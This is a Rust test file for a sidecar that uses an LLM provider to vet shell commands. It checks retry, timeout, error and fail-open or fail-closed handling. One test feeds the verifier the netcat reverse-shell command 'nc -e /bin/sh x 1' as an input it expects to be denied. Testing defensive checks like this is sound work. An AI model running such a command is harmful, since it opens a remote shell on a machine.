//! Provider failures: 429 retries (with and without `Retry-After`), HTTP errors, garbage,
//! oversized answers, an unreachable provider and a provider that never answers. Each ends in
//! the configured fail mode (open: allow marked with `error`; `VERIFY_FAIL_OPEN=0`: 503)
//! within `VERIFY_TIMEOUT`.

mod support;

use std::time::{Duration, Instant};

use serde_json::json;
use support::sidecar::Sidecar;
use support::standin::{Reply, StandIn};

fn assert_failed_open(status: u16, answer: &serde_json::Value, class: &str) {
    assert_eq!(status, 200, "{answer}");
    assert_eq!(answer["decision"], "allow", "{answer}");
    assert_eq!(
        answer["reason"], "Verification unavailable, allowing by default",
        "{answer}"
    );
    assert_eq!(answer["error"], class, "{answer}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retries_429_honouring_a_short_retry_after() {
    for provider in ["openai", "anthropic"] {
        let standin = StandIn::answering("DENY: nope").await;
        let sidecar = Sidecar::for_provider(provider, &standin, &[]);
        standin.script([
            Reply::Status(429, Some("0")),
            Reply::Status(429, Some("0.1")),
        ]);
        let start = Instant::now();
        let (status, answer) = sidecar.verify_command("nc -e /bin/sh x 1").await;
        assert_eq!(status, 200, "{answer}");
        assert_eq!(answer["decision"], "deny", "{provider}: {answer}");
        assert_eq!(standin.count(), 3, "{provider}: two retries then success");
        assert!(start.elapsed() < Duration::from_millis(900), "{provider}");
        let bodies: Vec<_> = standin.received().iter().map(|r| r.raw.clone()).collect();
        assert!(
            bodies.iter().all(|b| b == &bodies[0]),
            "retries resend the same request"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retries_429_with_the_reference_backoff() {
    let standin = StandIn::answering("ALLOW").await;
    let sidecar = Sidecar::for_provider("openai", &standin, &[]);
    standin.script([Reply::Status(429, None)]);
    let start = Instant::now();
    let (status, answer) = sidecar.verify_command("ls").await;
    let took = start.elapsed();
    assert_eq!(
        (status, &answer["decision"]),
        (200, &json!("allow")),
        "{answer}"
    );
    assert!(answer.get("error").is_none());
    assert_eq!(standin.count(), 2);
    // the first backoff step is 1 s
    assert!(took >= Duration::from_millis(950), "{took:?}");
    assert!(took < Duration::from_secs(3), "{took:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn gives_up_after_two_retries_or_a_long_retry_after() {
    let standin = StandIn::start(|_, _| Reply::Status(429, Some("0"))).await;
    let sidecar = Sidecar::for_provider("openai", &standin, &[]);
    let (status, answer) = sidecar.verify_command("ls").await;
    assert_failed_open(status, &answer, "provider_rate_limited");
    assert_eq!(standin.count(), 3, "one call and two retries");

    // A Retry-After beyond a few seconds is not waited for.
    let standin = StandIn::start(|_, _| Reply::Status(429, Some("60"))).await;
    let sidecar = Sidecar::for_provider("anthropic", &standin, &[]);
    let start = Instant::now();
    let (status, answer) = sidecar.verify_command("ls").await;
    assert_failed_open(status, &answer, "provider_rate_limited");
    assert_eq!(standin.count(), 1);
    assert!(start.elapsed() < Duration::from_secs(1));

    // Retries never outlast VERIFY_TIMEOUT: a 1 s backoff does not fit in 0.5 s.
    let standin = StandIn::start(|_, _| Reply::Status(429, None)).await;
    let sidecar = Sidecar::for_provider("openai", &standin, &[("VERIFY_TIMEOUT", "0.5")]);
    let start = Instant::now();
    let (status, answer) = sidecar.verify_command("ls").await;
    assert_failed_open(status, &answer, "provider_rate_limited");
    assert!(start.elapsed() < Duration::from_millis(500));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ollama_is_not_retried() {
    let standin = StandIn::start(|_, _| Reply::Status(429, Some("0"))).await;
    let sidecar = Sidecar::for_provider("ollama", &standin, &[]);
    let (status, answer) = sidecar.verify_command("ls").await;
    assert_failed_open(status, &answer, "provider_http_error");
    assert_eq!(standin.count(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_errors_fail_open_or_closed() {
    let standin = StandIn::start(|_, _| Reply::Status(500, None)).await;
    let open = Sidecar::for_provider("openai", &standin, &[]);
    let (status, answer) = open.verify_command("ls").await;
    assert_failed_open(status, &answer, "provider_http_error");
    assert_eq!(standin.count(), 1, "a 500 is not retried");

    let closed = Sidecar::for_provider("openai", &standin, &[("VERIFY_FAIL_OPEN", "0")]);
    let (status, answer) = closed.verify_command("ls").await;
    assert_eq!(status, 503);
    assert_eq!(
        answer,
        json!({"detail": "Verification unavailable", "error": "provider_http_error"})
    );

    // both failures are logged and counted
    let line = &closed.decisions()[0];
    assert_eq!(line["decision"], serde_json::Value::Null);
    assert_eq!(line["error"], "provider_http_error");
    let open_line = &open.decisions()[0];
    assert_eq!(open_line["decision"], "allow");
    assert_eq!(open_line["error"], "provider_http_error");
    let m: serde_json::Value = closed.get("/metrics").await.json().await.unwrap();
    assert_eq!(
        (m["total_requests"].as_u64(), m["total_errors"].as_u64()),
        (Some(1), Some(1))
    );
    assert_eq!(m["total_allows"], 0);
    let m: serde_json::Value = open.get("/metrics").await.json().await.unwrap();
    assert_eq!(
        (m["total_allows"].as_u64(), m["total_errors"].as_u64()),
        (Some(1), Some(1))
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn garbage_and_oversized_answers() {
    let standin = StandIn::answering("ALLOW").await;
    let sidecar = Sidecar::for_provider("openai", &standin, &[]);
    let cases = [
        (
            Reply::Raw(200, "this is not json".into()),
            "provider_invalid_response",
        ),
        (
            Reply::Raw(200, "{\"choices\": []}".into()),
            "provider_invalid_response",
        ),
        (
            Reply::Raw(
                200,
                "{\"choices\": [{\"message\": {\"content\": null}}]}".into(),
            ),
            "provider_invalid_response",
        ),
        (Reply::Huge, "provider_response_too_large"),
        (Reply::Raw(302, String::new()), "provider_http_error"),
    ];
    for (reply, class) in cases {
        standin.script([reply]);
        let (status, answer) = sidecar.verify_command("ls").await;
        assert_failed_open(status, &answer, class);
    }
    // an Anthropic error object is not an answer
    let sidecar = Sidecar::for_provider("anthropic", &standin, &[]);
    standin.script([Reply::Raw(
        200,
        "{\"type\": \"error\", \"error\": {\"type\": \"overloaded_error\"}}".into(),
    )]);
    let (status, answer) = sidecar.verify_command("ls").await;
    assert_failed_open(status, &answer, "provider_invalid_response");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unreachable_provider() {
    // a port nothing listens on
    let free = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", free.local_addr().unwrap());
    drop(free);
    let env = vec![
        ("VERIFY_PROVIDER".to_string(), "openai".to_string()),
        ("OPENAI_BASE_URL".to_string(), format!("{url}/v1")),
    ];
    let sidecar = Sidecar::start(&env, &[]);
    let (status, answer) = sidecar.verify_command("ls").await;
    assert_failed_open(status, &answer, "provider_unreachable");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn silence_ends_in_the_fail_mode_within_the_timeout() {
    let standin = StandIn::start(|_, _| Reply::Hang).await;
    for provider in ["openai", "anthropic", "ollama"] {
        let open = Sidecar::for_provider(provider, &standin, &[("VERIFY_TIMEOUT", "0.5")]);
        let start = Instant::now();
        let (status, answer) = open.verify_command("ls").await;
        let took = start.elapsed();
        assert_failed_open(status, &answer, "provider_timeout");
        assert!(took >= Duration::from_millis(450), "{provider}: {took:?}");
        assert!(took < Duration::from_millis(1500), "{provider}: {took:?}");

        let closed = Sidecar::for_provider(
            provider,
            &standin,
            &[("VERIFY_TIMEOUT", "0.5"), ("VERIFY_FAIL_OPEN", "0")],
        );
        let start = Instant::now();
        let (status, answer) = closed.verify_command("ls").await;
        let took = start.elapsed();
        assert_eq!(status, 503, "{provider}: {answer}");
        assert_eq!(answer["error"], "provider_timeout");
        assert!(took < Duration::from_millis(1500), "{provider}: {took:?}");
    }
}
